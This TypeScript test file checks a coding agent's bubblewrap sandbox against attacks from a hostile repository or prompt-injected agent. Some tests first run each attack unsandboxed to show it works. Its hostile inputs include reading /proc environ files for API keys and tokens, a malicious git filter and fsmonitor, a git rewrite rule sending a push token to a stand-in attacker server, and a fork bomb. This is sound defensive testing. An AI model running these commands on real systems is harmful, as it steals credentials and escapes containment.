import { execFile, spawn } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { createGitHubCodeHost } from '../../src/codehost/github';
import { DEFAULT_SANDBOX_LIMITS, type CommandSandbox, type SandboxLimits } from '../../src/sandbox/sandbox';
import { createUnsandboxedRunner } from '../../src/sandbox/unsandboxed';
import { runCommand } from '../../src/workspace/commands';
import { directorySize } from '../../src/workspace/disk';
import { branchTip, ChangeRejectedError, chownTree, diffInMirror, git, importBundle, prepareWorkspace, removeIssueRepositories } from '../../src/workspace/git';
import { readFile } from '../../src/workspace/read-tools';
import { editFile, writeFile } from '../../src/workspace/write-tools';
import { commitAndBundle } from '../../src/workspace/sandboxed-git';
import { makeBareRepository } from '../support/git-fixture';
import { testSandbox } from '../support/harness';
import { SAMPLE_REPO } from '../support/pipeline';

/**
 * The attacks of issue 11, each as a hostile repository or a prompt-injected agent would try
 * them, against the real bubblewrap sandbox with real files, processes and sockets. Where it
 * shows the attack is real, the same attack is first run with SANDBOX=off (the old
 * behaviour) and seen to succeed: the assertion on the sandbox is then not vacuous.
 */

const psArgs = () => new Promise<string>((resolve) => execFile('ps', ['-eo', 'args'], (_error, stdout) => resolve(stdout)));

const SECRETS = { ANTHROPIC_API_KEY: 'sk-ant-attack-test-secret', GITHUB_TOKEN: 'ghp_attack_test_secret', DATABASE_URL: 'postgres://attack-test-secret@db/x' };

describe('sandbox: the attacks of issue 11', () => {
  const sandbox = testSandbox();
  const unsandboxed = createUnsandboxedRunner();
  const limits: SandboxLimits = { ...DEFAULT_SANDBOX_LIMITS, wallTimeMs: 20_000, maxOutputBytes: 200_000 };
  let tmp: string;
  let spec: Parameters<typeof prepareWorkspace>[0];
  let ours: string;
  let theirs: string;
  let cleanupRemote: () => void;

  const run = (runner: CommandSandbox, argv: string[], overrides: Partial<SandboxLimits> = {}, dir = ours) =>
    runCommand({ sandbox: runner, dir, argv, allowlist: [[argv[0] as string]], limits: { ...limits, ...overrides } });

  beforeAll(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'attacks-'));
    fs.chmodSync(tmp, 0o711); // the sandbox's unprivileged user must reach the workspaces
    const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
    cleanupRemote = cleanup;
    spec = { workspacesRoot: path.join(tmp, 'workspaces'), mirrorsRoot: path.join(tmp, 'mirrors'), organizationId: 'org-a', issueId: 'issue-a', remote, baseBranch: 'main', owner: sandbox.fileOwner };
    ours = (await prepareWorkspace(spec)).dir;
    theirs = (await prepareWorkspace({ ...spec, organizationId: 'org-b', issueId: 'issue-b' })).dir;
    fs.writeFileSync(path.join(theirs, 'customer-secrets.txt'), 'org-b private data');
  });
  const afterCleanup: Array<() => void> = [];
  afterAll(() => {
    for (const cleanup of afterCleanup) cleanup();
    cleanupRemote();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  it("can't read the worker's environment through /proc", async () => {
    // A process started with the worker's secrets in its environment (/proc shows the environment a process was started with).
    const worker = spawn('sleep', ['60'], { env: { ...process.env, ...SECRETS } });
    const script = `for f in /proc/${worker.pid}/environ /proc/*/environ; do cat "$f" 2>/dev/null | tr '\\0' '\\n'; done; echo done`;
    try {
      const before = await run(unsandboxed, ['sh', '-c', script]);
      expect(before.stdout).toContain(SECRETS.ANTHROPIC_API_KEY); // the attack, as it was
      const after = await run(sandbox, ['sh', '-c', script]);
      expect(after.stdout).toContain('done');
      for (const secret of Object.values(SECRETS)) expect(after.stdout + after.stderr).not.toContain(secret);
    } finally {
      worker.kill('SIGKILL');
    }
    // Its own /proc shows only its own processes.
    const processes = await run(sandbox, ['sh', '-c', 'ls -d /proc/[0-9]* | wc -l']);
    expect(Number(processes.stdout.trim())).toBeLessThan(10);
  });

  it("gets none of the worker's inherited descriptors (a supervisor's open file or directory)", async () => {
    const secret = path.join(tmp, 'inherited-secret');
    fs.writeFileSync(secret, 'descriptor secret', { mode: 0o600 });
    const probe = path.join(__dirname, '../support/fd-leak-probe.ts');
    const output = await new Promise<string>((resolve, reject) =>
      execFile('bash', ['-c', 'exec 200<"$1"; exec "$2" --import tsx "$3"', 'probe', secret, process.execPath, probe], { cwd: path.resolve(__dirname, '../..') }, (error, stdout, stderr) =>
        error ? reject(new Error(`${error.message}\n${stderr}`)) : resolve(stdout),
      ),
    );
    const seen = JSON.parse(output.trim().split('\n').at(-1) as string) as { sandboxed: string; off: string; plain: string };
    expect(seen.plain).toContain('descriptor secret'); // the attack, as it was
    expect(seen.sandboxed).toContain('no fd 200');
    expect(seen.sandboxed).not.toContain('descriptor secret');
    expect(seen.off).not.toContain('descriptor secret');
  }, 30_000);

  it("can't see another organization's workspace, by relative or absolute path", async () => {
    const script = `cat ../../org-b/issue-b/customer-secrets.txt; cat ${theirs}/customer-secrets.txt; ls ${spec.workspacesRoot}; echo done`;
    const before = await run(unsandboxed, ['sh', '-c', script]);
    expect(before.stdout).toContain('org-b private data');
    const after = await run(sandbox, ['sh', '-c', script]);
    expect(after.stdout).toContain('done');
    expect(after.stdout).not.toContain('org-b private data');
    // Nor DATA_DIR, home directories or the worker's mirrors.
    const look = await run(sandbox, ['sh', '-c', `ls /root ${spec.mirrorsRoot} ${path.resolve('.data')} /work 2>&1; echo done`]);
    expect(look.stdout).toMatch(/No such file or directory/);
    expect(look.stdout).not.toMatch(/issue-a\.git|package\.json/);
  });

  it('writes nothing outside its workspace; /tmp is private and gone afterwards', async () => {
    const marker = path.join(os.tmpdir(), `sandbox-escape-${process.pid}`);
    const script = `echo x > ${marker}; echo y > /usr/escape 2>/dev/null; echo z > /etc/escape 2>/dev/null; echo inside > /tmp/private; echo ok > written-here; cat /tmp/private`;
    const after = await run(sandbox, ['sh', '-c', script]);
    expect(after.stdout).toContain('inside');
    expect(fs.existsSync(marker)).toBe(false);
    expect(fs.existsSync('/usr/escape')).toBe(false);
    expect(fs.existsSync('/etc/escape')).toBe(false);
    expect(fs.readFileSync(path.join(ours, 'written-here'), 'utf8')).toBe('ok\n');
    // Its own root and /dev are read-only too (memory it could fill outside every cap), /dev/shm is capped.
    const fill = await run(sandbox, ['sh', '-c', 'echo x > /rootfile || echo root-ro; echo x > /dev/file || echo dev-ro; head -c 2000000 /dev/zero > /dev/shm/big || echo shm-full'], { tmpBytes: 1_000_000 });
    expect(fill.stdout.split('\n')).toEqual(expect.arrayContaining(['root-ro', 'dev-ro', 'shm-full']));
    const next = await run(sandbox, ['sh', '-c', 'cat /tmp/private 2>&1 || true']);
    expect(next.stdout).toMatch(/No such file/);
    fs.rmSync(path.join(ours, 'written-here'));
  });

  it('has no network: a listener on 127.0.0.1 (Postgres, the API) gets no connection', async () => {
    let connections = 0;
    const server = net.createServer((socket) => {
      connections += 1;
      socket.end('hello from the host\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    const script = `const s = require('net').connect(${port}, '127.0.0.1'); s.on('data', (d) => { console.log('GOT ' + d); process.exit(0); }); s.on('error', (e) => { console.log('ERR ' + e.code); process.exit(0); });`;
    try {
      const before = await run(unsandboxed, ['node', '-e', script]);
      expect(before.stdout).toContain('GOT hello from the host');
      const seenBefore = connections;
      const after = await run(sandbox, ['node', '-e', script]);
      expect(after.stdout).toMatch(/ERR ECONNREFUSED/);
      expect(connections).toBe(seenBefore);
      const outside = await run(sandbox, ['node', '-e', "require('net').connect(443, '1.1.1.1').on('error', (e) => console.log('ERR ' + e.code))"]);
      expect(outside.stdout).toMatch(/ERR (ENETUNREACH|EHOSTUNREACH)/);
    } finally {
      server.close();
    }
  });

  it('leaves no process behind: a background child dies with the command', async () => {
    const marker = `${313_000 + (process.pid % 1000)}`;
    const result = await run(sandbox, ['sh', '-c', `(sleep ${marker} &) ; echo started`]);
    expect(result.stdout).toContain('started');
    await new Promise((resolve) => setTimeout(resolve, 200));
    const ps = await new Promise<string>((resolve) => execFile('ps', ['-eo', 'args'], (_error, stdout) => resolve(stdout)));
    expect(ps).not.toContain(`sleep ${marker}`);
  });

  it('stops a fork bomb at the process limit with a clear message', async () => {
    const result = await run(sandbox, ['sh', '-c', 'bomb() { bomb | bomb & }; bomb; sleep 2; exit 1'], { processes: 64, wallTimeMs: 15_000 });
    expect(result.outcome).toBe('process_limit');
    expect(result.limitMessage).toMatch(/limit of 64 processes/);
    // The machine is fine and nothing is left running.
    const ps = await new Promise<string>((resolve) => execFile('ps', ['-eo', 'comm'], (_error, stdout) => resolve(stdout)));
    expect(ps.split('\n').filter((name) => name.trim() === 'sh').length).toBeLessThan(20);
  });

  it('kills a memory hog at the memory limit with a clear message', async () => {
    const result = await run(sandbox, ['node', '-e', 'const a = []; for (;;) a.push(Buffer.alloc(1e6, 1))'], { memoryBytes: 128 * 1024 ** 2 });
    expect(result.outcome).toBe('memory_limit');
    expect(result.limitMessage).toMatch(/memory limit of 128 MiB/);
  });

  it('kills a CPU spinner, a huge file and an endless printer with clear messages', async () => {
    const cpu = await run(sandbox, ['sh', '-c', 'while :; do :; done'], { cpuSeconds: 1 });
    expect(cpu.outcome).toBe('cpu_limit');
    const file = await run(sandbox, ['sh', '-c', 'head -c 5000000 /dev/zero > big.bin'], { fileSizeBytes: 1_000_000 });
    expect(file.outcome).toBe('file_size_limit');
    fs.rmSync(path.join(ours, 'big.bin'), { force: true });
    const printer = await run(sandbox, ['yes'], { maxTotalOutputBytes: 2_000_000 });
    expect(printer.outcome).toBe('output_limit');
    expect(printer.limitMessage).toMatch(/more than 2 MiB of output/);
  });

  it('ignores a .gitconfig the agent wrote into the workspace (HOME is not the workspace)', async () => {
    const marker = 'gitconfig-fsmonitor-ran';
    fs.writeFileSync(path.join(ours, '.gitconfig'), `[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = "touch ${marker}; false"\n[alias]\n\tstatus = "!touch ${marker}"\n`);
    try {
      // Before: commands ran with HOME set to the workspace, and git read the file as the user's config.
      await new Promise((resolve) => execFile('git', ['status', '--short'], { cwd: ours, env: { PATH: process.env.PATH, HOME: ours } }, resolve));
      expect(fs.existsSync(path.join(ours, marker))).toBe(true);
      fs.rmSync(path.join(ours, marker));
      const result = await run(sandbox, ['git', 'status', '--short']);
      expect(result.outcome).toBe('exited');
      expect(fs.existsSync(path.join(ours, marker))).toBe(false);
    } finally {
      fs.rmSync(path.join(ours, '.gitconfig'));
    }
  });

  it("runs the workspace's filters and fsmonitor only inside the sandbox when the worker commits", async () => {
    const worker = spawn('sleep', ['60'], { env: { ...process.env, ...SECRETS } });
    const hostMarker = path.join(os.tmpdir(), `filter-ran-on-host-${process.pid}`);
    const leak = `cat /proc/${worker.pid}/environ > ${hostMarker} 2>/dev/null; cat`;
    afterCleanup.push(() => worker.kill('SIGKILL'));
    fs.appendFileSync(path.join(ours, '.git', 'config'), `[filter "evil"]\n\tclean = "${leak}"\n\tsmudge = cat\n[core]\n\tfsmonitor = "${leak.replace('; cat', '; false')}"\n`);
    fs.writeFileSync(path.join(ours, '.gitattributes'), '* filter=evil\n');
    fs.writeFileSync(path.join(ours, 'change.txt'), 'a change\n');
    // Before: the worker ran `git add` in the workspace itself, and the clean filter ran on the host.
    // (The workspace now belongs to the sandbox user, and git itself would refuse to work in it as root: safe.directory says "as before".)
    await git(ours, ['add', '--all'], { config: ['safe.directory=*'] });
    expect(fs.readFileSync(hostMarker, 'utf8')).toContain(SECRETS.GITHUB_TOKEN);
    fs.rmSync(hostMarker);
    if (sandbox.fileOwner) await chownTree(ours, sandbox.fileOwner); // what root's git add wrote into .git
    fs.writeFileSync(path.join(ours, 'change.txt'), 'a second change\n');
    const prepared = await prepareWorkspace(spec);
    const change = await commitAndBundle(sandbox, ours, { message: 'fix: filtered', knownSha: await branchTip(prepared.mirror, prepared.branch), limits });
    try {
      expect(change.bundle).not.toBeNull();
      await importBundle(prepared.mirror, change.bundle as string, prepared.branch, { maxCheckoutBytes: 1024 ** 3, maxEntries: 100_000 });
    } finally {
      await change.cleanup();
    }
    expect(fs.existsSync(hostMarker)).toBe(false);
  });

  it('pushes from the mirror: an insteadOf rule in the workspace never sees the token', async () => {
    const received: string[] = [];
    const attacker = http.createServer((request, response) => {
      received.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
      response.statusCode = 401;
      response.setHeader('www-authenticate', 'Basic realm="x"');
      response.end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const attackerUrl = `http://127.0.0.1:${(attacker.address() as net.AddressInfo).port}/stolen.git`;
    const token = 'ghp_push_token_under_attack';
    const basic = Buffer.from(`x-access-token:${token}`).toString('base64');
    try {
      const prepared = await prepareWorkspace(spec);
      // The agent (or a test command) rewrites the remote of its clone.
      fs.appendFileSync(path.join(ours, '.git', 'config'), `[url "${attackerUrl}"]\n\tinsteadOf = ${spec.remote}\n[http]\n\tproxy = http://127.0.0.1:9\n`);
      // Before: the push ran in the workspace and the rule sent the token to the attacker.
      await git(ours, ['push', '--quiet', '--force', '--', spec.remote, 'HEAD:refs/heads/stolen'], { config: ['safe.directory=*', `http.extraHeader=Authorization: Basic ${basic}`], timeoutMs: 10_000 }).catch(() => undefined);
      expect(received.join('\n')).toContain(basic);
      received.length = 0;
      // After: the push runs in the worker's mirror, which the agent never touched.
      const host = createGitHubCodeHost({ token, owner: 'acme', repo: 'invoices', apiUrl: 'http://127.0.0.1:9' });
      const pushed = await host.pushBranch({ mirror: prepared.mirror, branch: prepared.branch, remote: spec.remote });
      expect(received).toEqual([]);
      expect(pushed.sha).toBe((await git(spec.remote, ['rev-parse', `refs/heads/${prepared.branch}`])).trim());
    } finally {
      attacker.close();
    }
  });

  it('is never the host\'s root: /proc/sys is not writable and files it makes are not root\'s', async () => {
    // As root in a namespace, a command could write kernel.core_pattern and have the host run its code as root.
    const sysctl = await run(sandbox, ['sh', '-c', 'cat /proc/sys/kernel/printk_ratelimit > /proc/sys/kernel/printk_ratelimit && echo WROTE; id -u']);
    expect(sysctl.stdout).not.toContain('WROTE');
    expect(sysctl.stderr).toMatch(/Permission denied|Read-only/);
    const uid = Number(sysctl.stdout.trim().split('\n').at(-1));
    expect(uid).not.toBe(0);
    // A setuid copy of a binary is the sandbox user's, not root's: it grants nothing.
    await run(sandbox, ['sh', '-c', 'cp /usr/bin/id suid-id && chmod 4755 suid-id']);
    const suid = fs.statSync(path.join(ours, 'suid-id'));
    expect(suid.uid).toBe(uid);
    expect(suid.uid).not.toBe(0);
    fs.rmSync(path.join(ours, 'suid-id'));
    // The workspace is its owner's alone.
    expect(fs.statSync(ours).mode & 0o777).toBe(0o700);
  });

  it("refuses FIFOs and devices to the worker's file tools instead of blocking a worker thread", async () => {
    await run(sandbox, ['mkfifo', 'pipe']);
    const started = Date.now();
    await expect(readFile(ours, { path: 'pipe' })).rejects.toThrow(/not a regular file/);
    await expect(editFile(ours, { path: 'pipe', oldText: 'a', newText: 'b' })).rejects.toThrow(/not a regular file/);
    await expect(writeFile(ours, { path: 'pipe', content: 'x' })).rejects.toThrow(/not a regular file/);
    expect(Date.now() - started).toBeLessThan(2_000);
    fs.rmSync(path.join(ours, 'pipe'));
  });

  it('refuses a small bundle that checks out huge, and caps the diff', async () => {
    const prepared = await prepareWorkspace(spec);
    await run(sandbox, ['sh', '-c', 'head -c 30000000 /dev/zero > zeros.bin']);
    const change = await commitAndBundle(sandbox, ours, { message: 'fix: zeros', knownSha: await branchTip(prepared.mirror, prepared.branch), limits });
    try {
      expect(fs.statSync(change.bundle as string).size).toBeLessThan(1_000_000); // 30 MB of zeros compress to almost nothing
      const before = await branchTip(prepared.mirror, prepared.branch);
      await expect(importBundle(prepared.mirror, change.bundle as string, prepared.branch, { maxCheckoutBytes: 10 * 1024 ** 2, maxEntries: 100_000 })).rejects.toThrow(ChangeRejectedError);
      expect(await branchTip(prepared.mirror, prepared.branch)).toBe(before);
      await importBundle(prepared.mirror, change.bundle as string, prepared.branch, { maxCheckoutBytes: 1024 ** 3, maxEntries: 100_000 });
      const diff = await diffInMirror(prepared.mirror, prepared.baseSha, prepared.branch, 2_000);
      expect(diff).toMatch(/diff truncated|Binary files/);
    } finally {
      await change.cleanup();
    }
    // Disk is counted as allocated blocks, entries as inodes.
    const usage = await directorySize(ours);
    expect(usage.bytes).toBeGreaterThan(30_000_000);
    expect(usage.entries).toBeGreaterThan(10);
  });

  it('stops a command an abandoned attempt left running before the worker touches the workspace', async () => {
    const marker = `${317_000 + (process.pid % 1000)}`;
    const abandoned = run(sandbox, ['sleep', marker], { wallTimeMs: 60_000 });
    // Up to 10 s for the sandbox to start it: bwrap and the cgroup setup take longer on a loaded machine.
    for (let i = 0; i < 500 && !(await psArgs()).includes(`sleep ${marker}`); i++) await new Promise((resolve) => setTimeout(resolve, 20));
    expect(await psArgs()).toContain(`sleep ${marker}`);
    expect(await sandbox.stopWorkspace(ours)).toBeGreaterThan(0);
    expect(await psArgs()).not.toContain(`sleep ${marker}`);
    expect((await abandoned).signal).toBe('SIGKILL');
    expect(await sandbox.stopWorkspace(theirs)).toBe(0); // another workspace's commands are not touched
  });

  it('measures and removes a tree deeper than PATH_MAX', async () => {
    const deep = path.join(tmp, 'workspaces', 'org-a', 'deep-issue');
    fs.mkdirSync(deep, { mode: 0o700 });
    if (sandbox.fileOwner) fs.chownSync(deep, sandbox.fileOwner.uid, sandbox.fileOwner.gid);
    const name = 'd'.repeat(200);
    const script = `for i in $(seq 1 30); do mkdir ${name} && cd ${name}; done; head -c 8000000 /dev/urandom > hidden.bin; echo made`;
    expect((await run(sandbox, ['sh', '-c', script], {}, deep)).stdout).toContain('made');
    expect((await directorySize(deep)).bytes).toBeGreaterThan(8_000_000);
    await removeIssueRepositories({ workspacesRoot: path.join(tmp, 'workspaces'), mirrorsRoot: path.join(tmp, 'mirrors'), organizationId: 'org-a', issueId: 'deep-issue' });
    expect(fs.existsSync(deep)).toBe(false);
  });

  it('reads no secret into the sandbox: the environment is the minimal one', async () => {
    const result = await run(sandbox, ['node', '-e', 'console.log(JSON.stringify(process.env))']);
    const env = JSON.parse(result.stdout) as Record<string, string>;
    expect(env['HOME']).toBe('/home/sandbox');
    for (const secret of Object.values(SECRETS)) expect(result.stdout).not.toContain(secret);
    const home = await run(sandbox, ['sh', '-c', 'ls -A "$HOME" | wc -l; id -u']);
    expect(home.stdout.split('\n')[0]).toBe('0');
  });
});
